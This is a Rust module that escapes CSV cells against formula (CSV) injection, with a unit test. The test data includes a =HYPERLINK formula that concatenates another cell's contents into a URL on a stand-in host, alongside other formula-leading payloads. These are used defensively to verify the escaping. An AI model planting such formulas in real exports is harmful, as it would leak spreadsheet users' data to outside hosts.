//! Every CSV the program writes goes through here: a cell that a spreadsheet would take as a
//! formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return, or the full-width
//! `＝`, `＋`, `－`, `＠`) is written with a leading `'`, as OWASP advises against CSV
//! injection, so that it opens as the text it is. An asset number or a customer name from a platform is data, never a formula on a user's PC.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula, and their full-width
/// forms, which a spreadsheet with a Chinese or Japanese input method turns into them.
const FORMULA_LEADS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// The cell as written: as it is, or with a leading `'` when it would be a formula.
pub fn neutral(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_LEADS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A header and rows as CSV text (RFC 4180), every cell neutralised; with a byte-order mark
/// when `bom` (spreadsheet software then opens Chinese intact).
pub fn csv_text<R, F>(header: &[&str], rows: R, bom: bool) -> String
where
    R: IntoIterator<Item = Vec<F>>,
    F: AsRef<str>,
{
    let mut out = csv::Writer::from_writer(Vec::new());
    // Writing to memory cannot fail.
    let _ = out.write_record(header.iter().map(|h| neutral(h).into_owned()));
    for row in rows {
        // As above: into memory.
        let _ = out.write_record(row.iter().map(|c| neutral(c.as_ref()).into_owned()));
    }
    let bytes = out.into_inner().unwrap_or_default();
    let text = String::from_utf8_lossy(&bytes);
    if bom {
        format!("\u{feff}{text}")
    } else {
        text.into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_written_as_text_and_others_as_they_are() {
        let text = csv_text(
            &["asset", "name"],
            [
                vec!["=HYPERLINK(\"http://x?\"&B2,\"8100\")", "@SUM(A1)"],
                vec!["+1", "-2"],
                vec!["\tx", "\rx"],
                vec!["8100000001", "授权测试企业"],
                vec!["＝1+1", "＠SUM(A1)"],
            ],
            false,
        );
        assert_eq!(
            text,
            "asset,name\n\"'=HYPERLINK(\"\"http://x?\"\"&B2,\"\"8100\"\")\",'@SUM(A1)\n'+1,'-2\n'\tx,\"'\rx\"\n8100000001,授权测试企业\n'＝1+1,'＠SUM(A1)\n"
        );
        assert!(csv_text(&["a"], [vec!["b"]], true).starts_with('\u{feff}'));
    }
}
